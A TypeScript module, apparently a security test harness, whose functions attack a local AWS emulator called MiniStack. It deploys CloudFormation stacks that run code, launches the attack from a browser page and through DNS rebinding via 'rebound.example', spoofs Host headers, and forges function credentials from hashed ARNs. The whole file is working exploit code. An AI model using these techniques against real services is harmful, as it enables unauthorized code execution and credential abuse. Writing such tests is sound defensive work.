import { createHash } from 'node:crypto';
import { execFile, spawnSync } from 'node:child_process';
import { createServer, type IncomingMessage, request } from 'node:http';
import type { AddressInfo } from 'node:net';
import { once } from 'node:events';
import { promisify } from 'node:util';
import { GetCallerIdentityCommand, STSClient } from '@aws-sdk/client-sts';
import { chromium } from 'playwright-core';
import { CHROMIUM } from './chromium';

/** The target of an attack, and what an attacker can know about it. */
export interface Target {
  readonly endpoint: string;
  readonly region: string;
  /** Of a deployed function and its role: both follow from the names in its template. */
  readonly functionArn: string;
  readonly roleArn: string;
}

/** Deploys a function with the caller's key, and returns the user of the machine that ran its code. */
export const TEMPLATE = JSON.stringify({
  Resources: {
    Role: {
      Type: 'AWS::IAM::Role',
      Properties: {
        AssumeRolePolicyDocument: {
          Version: '2012-10-17',
          Statement: [
            { Effect: 'Allow', Principal: { Service: 'lambda.amazonaws.com' }, Action: 'sts:AssumeRole' },
            {
              Effect: 'Allow',
              Principal: { AWS: { 'Fn::Sub': 'arn:aws:iam::${AWS::AccountId}:root' } },
              Action: 'sts:AssumeRole',
            },
          ],
        },
      },
    },
    Function: {
      Type: 'AWS::Lambda::Function',
      Properties: {
        Runtime: 'nodejs24.x',
        Handler: 'index.handler',
        Role: { 'Fn::GetAtt': ['Role', 'Arn'] },
        Code: {
          ZipFile: `exports.handler = (event) => fetch(event.ResponseURL, { method: 'PUT', body: JSON.stringify({
            ...event, Status: 'SUCCESS', PhysicalResourceId: 'code', Data: { Uid: String(process.getuid()) } }) });`,
        },
      },
    },
    Code: { Type: 'Custom::Code', Properties: { ServiceToken: { 'Fn::GetAtt': ['Function', 'Arn'] } } },
  },
  Outputs: {
    Uid: { Value: { 'Fn::GetAtt': ['Code', 'Uid'] } },
    FunctionArn: { Value: { 'Fn::GetAtt': ['Function', 'Arn'] } },
    RoleArn: { Value: { 'Fn::GetAtt': ['Role', 'Arn'] } },
  },
});

/**
 * Runs code through a service that it may not call, and gives the id of the user as whom it ran. It is whole in itself,
 * since it also runs in a page and in another process.
 */
const runCode = async (endpoint: string, template: string, accessKeyId: string): Promise<string> => {
  const StackName = `Attack${Math.random().toString(36).slice(2)}`;
  // In the URL: then a page needs no preflight.
  const signed = new URLSearchParams({
    'X-Amz-Algorithm': 'AWS4-HMAC-SHA256',
    'X-Amz-Credential': `${accessKeyId}/20260101/us-east-1/cloudformation/aws4_request`,
  });
  const call = async (parameters: Record<string, string>): Promise<string> => {
    const body = new URLSearchParams({ Version: '2010-05-15', StackName, ...parameters });
    const response = await fetch(`${endpoint}/?${signed.toString()}`, { method: 'POST', body });
    if (!response.ok) {
      throw new Error(await response.text());
    }
    return response.text();
  };
  await call({ Action: 'CreateStack', TemplateBody: template, 'Capabilities.member.1': 'CAPABILITY_IAM' });
  for (let tries = 0; tries < 600; tries++) {
    const [, uid] =
      /<OutputKey>Uid<\/OutputKey>\s*<OutputValue>(\d+)/.exec(await call({ Action: 'DescribeStacks' })) ?? [];
    if (uid) {
      return uid;
    }
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error('the code did not run within 30 s');
};

const NOBODY = { uid: 65_534, gid: 65_534, cwd: '/', env: {} };

/** Why no process of another user can be started here; undefined if it can. */
export function whyNoOtherUser(): string | undefined {
  const { status, error } = spawnSync(process.execPath, ['--eval', '0'], NOBODY);
  return status === 0 ? undefined : (error?.message ?? 'the other user cannot run Node.js');
}

export async function runCodeAsAnotherUser({ endpoint }: Target): Promise<string> {
  const script = `(${runCode.toString()})(...${JSON.stringify([endpoint, TEMPLATE, 'test'])}).then(console.log)`;
  const { stdout } = await promisify(execFile)(process.execPath, ['--eval', script], NOBODY);
  return stdout.trim();
}

export const runCodeWith =
  (accessKeyId: string) =>
  ({ endpoint }: Target): Promise<string> =>
    runCode(endpoint, TEMPLATE, accessKeyId);

/** A page of another server of this machine. */
export async function runCodeFromPage({ endpoint }: Target): Promise<string> {
  const server = createServer((_request, response) => response.end('<!doctype html>'));
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const browser = await chromium.launch(CHROMIUM);
  try {
    const page = await browser.newPage();
    await page.goto(`http://127.0.0.1:${(server.address() as AddressInfo).port}/`);
    return await page.evaluate(`(${runCode.toString()})(...${JSON.stringify([endpoint, TEMPLATE, 'test'])})`);
  } finally {
    await browser.close();
    server.close();
  }
}

/** A page whose name is first resolved to the attacker's server, and then to this machine. */
export async function runCodeFromReboundPage({ endpoint }: Target): Promise<string> {
  const rebound = endpoint.replace('127.0.0.1', 'rebound.example');
  const browser = await chromium.launch({
    ...CHROMIUM,
    args: [...CHROMIUM.args, '--host-resolver-rules=MAP rebound.example 127.0.0.1'],
  });
  try {
    const page = await browser.newPage();
    await page.goto(`${rebound}/_ministack/health`);
    return await page.evaluate(`(${runCode.toString()})(...${JSON.stringify([rebound, TEMPLATE, 'test'])})`);
  } finally {
    await browser.close();
  }
}

/** With the headers of a rebound page's request that no other program sends, and nothing else of a browser's. */
export async function callByAnotherName({ endpoint }: Target): Promise<string> {
  const url = new URL(
    `${endpoint}/?Action=ListStacks&X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential=test/20260101/us-east-1/cloudformation/aws4_request`,
  );
  const call = request(url, { headers: { host: `rebound.example:${url.port}` } }).end();
  const [response] = (await once(call, 'response')) as [IncomingMessage];
  response.resume();
  if (response.statusCode !== 200) {
    throw new Error(`status ${response.statusCode}`);
  }
  return 'answered';
}

export async function reset({ endpoint }: Target): Promise<string> {
  const response = await fetch(`${endpoint}/_ministack/reset`, { method: 'POST' });
  if (!response.ok) {
    throw new Error(await response.text());
  }
  return 'reset';
}

/** MiniStack makes a function's credentials of two ARNs. */
export async function callWithGuessedCredentials({ endpoint, region, functionArn, roleArn }: Target): Promise<string> {
  const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
  const digest = sha256(`${functionArn}:${roleArn}`);
  const credentials = {
    accessKeyId: `ASIA${digest.slice(0, 16).toUpperCase()}`,
    secretAccessKey: sha256(`secret:${digest}`),
    sessionToken: sha256(`token:${digest}`),
  };
  const { Arn = '' } = await new STSClient({ endpoint, region, credentials }).send(new GetCallerIdentityCommand({}));
  return Arn;
}
